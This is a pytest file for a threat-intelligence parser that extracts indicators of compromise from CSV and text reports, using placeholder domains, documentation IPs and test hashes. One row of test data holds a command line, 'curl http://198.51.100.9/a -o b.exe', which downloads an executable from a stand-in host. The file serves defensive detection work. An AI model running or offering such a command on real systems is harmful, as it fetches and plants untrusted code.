import csv
import gc
import io
import time
from collections.abc import Callable, Iterator

import pytest

from threatwalk.reports.read import parse
from threatwalk.reports.report import Report, Tlp
from threatwalk.sample import Kind

MD5 = "d41d8cd98f00b204e9800998ecf8427e"
SHA1 = "da39a3ee5e6b4b0d3255bfef95601890afd80709"
SHA256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"


def only(content: str, path: str = "x.csv") -> Report:
    (report,) = parse(content.encode(), path=path)
    return report


def found(content: str, path: str = "x.csv") -> set[tuple[Kind, str]]:
    return set(only(content, path).goal)


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"], ids=["comma", "semicolon", "tab", "pipe"])
@pytest.mark.parametrize("path", ["x.csv", "x.txt", "x"])
def test_the_delimiter_is_found(delimiter: str, path: str) -> None:
    out = io.StringIO()
    rows = [
        ["File name", "MD5", "C2 Server", "Note, or so"],
        ["my loader.exe", MD5, "evil[.]com", "first, of; many"],
        ["b.dll", "", "http://worse.com/a", 'it "quotes"\nand goes on'],
        ["c.dll", "", "203.0.113.7", ""],
        ["c.dll", "", "203.0.113.7", ""],
    ]
    csv.writer(out, delimiter=delimiter).writerows(rows)

    assert found(out.getvalue(), path) == {
        (Kind.FILENAME, "my loader.exe"),
        (Kind.FILENAME, "b.dll"),
        (Kind.FILENAME, "c.dll"),
        (Kind.MD5, MD5),
        (Kind.DOMAIN, "evil.com"),
        (Kind.URL, "http://worse.com/a"),
        (Kind.IPV4, "203.0.113.7"),
    }


TYPED = (
    "Indicator_type,Data,Note\n"
    "Description,Seen by us,https://unknown-vendor.com/blog\n"
    "description,https://unknown-vendor.com/more,\n"
    f"sha256,{SHA256.upper()} ,dropped by evil[.]org\n"
    "domain,plain.com,\n"
    "domain,\ufeffglued.com,\n"
    "ip_port,203.0.113.7:443,\n"
    "url,https://www.virustotal.com/x,\n"
    r"file_path_name,C:\Windows\update.exe,"
    "\n"
    "command_line,curl http://198.51.100.9/a -o b.exe,\n"
    "monero_address,4" + "A" * 94 + ",\n"
)


@pytest.mark.parametrize("headed", [True, False])
def test_a_column_of_types_says_what_stands_beside_it(headed: bool) -> None:
    content = TYPED if headed else TYPED.partition("\n")[2]

    assert found(content) == {
        (Kind.SHA256, SHA256),
        (Kind.DOMAIN, "evil.org"),
        (Kind.DOMAIN, "plain.com"),
        (Kind.DOMAIN, "glued.com"),
        (Kind.IPV4, "203.0.113.7"),
        (Kind.URL, "https://www.virustotal.com/x"),
        (Kind.FILENAME, "update.exe"),
    }


def test_several_values_in_a_cell_are_all_found() -> None:
    content = f'value,type\n"{MD5},{SHA1},{SHA256}",file\n"a[.]com\nb[.]com; c.com",domain\n1.2.3.4,ip\n'

    assert {value for _, value in found(content)} == {MD5, SHA1, SHA256, "a.com", "b.com", "c.com", "1.2.3.4"}


def test_a_table_without_headers_is_searched() -> None:
    rows = "".join(f"hxxp://evil{n}.com/a,2017-07-2{n} 06:20:28,{n}{SHA256[1:]}\n" for n in range(5))

    assert len(found(rows, "panels.txt")) == 10


def test_links_to_writings_are_no_samples() -> None:
    content = (
        "IOC, Valid From, Link\nhttp://a.com/x,2026-01-02T00:00:00Z,https://app.some-vendor.com/object/1\n"
        "https://github.com/evil/a,2026-01-02T00:00:00Z,https://app.some-vendor.com/object/2\n"
    )

    assert {value for _, value in found(content)} == {"http://a.com/x", "https://github.com/evil/a"}


def test_a_value_that_cannot_be_what_its_column_says_is_rejected() -> None:
    report = only("md5,domain\nnothing,evil.com\nabc123,no host\n")

    assert {value for _, value in report.goal} == {"evil.com"}
    assert {one.value for one in report.rejected} == {"nothing", "abc123", "no host"}


def test_an_url_without_its_scheme_is_its_host() -> None:
    assert found("url,note\nevil.com/a/b.php,x\n203.0.113.7/a,y\n") == {
        (Kind.DOMAIN, "evil.com"),
        (Kind.IPV4, "203.0.113.7"),
    }


def test_a_column_of_markings_gives_the_strictest() -> None:
    assert only("TLP,ioc\nGREEN,evil.com\namber,worse.com\n").tlp is Tlp.AMBER


def test_the_hash_list_of_a_feed_is_no_report() -> None:
    rows = f"{MD5},5a3c2fcd-8328-42bb-a95e-4f4402de0b81\n" * 9

    assert list(parse(rows.encode(), path="hashes.csv")) == []


def test_a_text_with_commas_is_no_table() -> None:
    content = (
        "We saw evil[.]com, worse[.]com and more.\nThen, later, nothing.\nSo it went, on and on.\nThe end.\n"
    )

    report = only(content, "x.txt")

    assert report.title == "We saw evil[.]com, worse[.]com and more."
    assert len(report.goal) == 2


@pytest.fixture
def heap() -> Iterator[None]:
    """Let the collector pass over what others left in this process."""
    gc.collect()
    gc.freeze()
    yield
    gc.unfreeze()


def milliseconds(content: str) -> float:
    """What reading a table takes, in time of this thread alone."""
    began = time.thread_time()
    list(parse(content.encode(), path="x.csv"))
    return (time.thread_time() - began) * 1000


@pytest.mark.usefixtures("heap")
@pytest.mark.parametrize(
    "made",
    [
        lambda n: 'md5,url\n"' + "a,b\n" * n,
        lambda n: "md5," * n + "\n" + "x," * n,
        lambda n: "a,b\n" * n + MD5,
        lambda n: '"' * (4 * n),
        lambda n: ",\n" * (2 * n),
    ],
    ids=["open quote", "wide", "long", "quotes", "empty"],
)
def test_hostile_tables_take_linear_time(made: Callable[[int], str]) -> None:
    list(parse(b"md5,url\nx,http://warm.com/\n", path="x.csv"))
    short, long = made(6_250), made(50_000)

    # eight short ones beside one long: what slows this machine slows both
    assert milliseconds(long) <= 3 * sum(milliseconds(short) for _ in range(8))
    assert milliseconds(long) <= 3 * len(long) / 1000
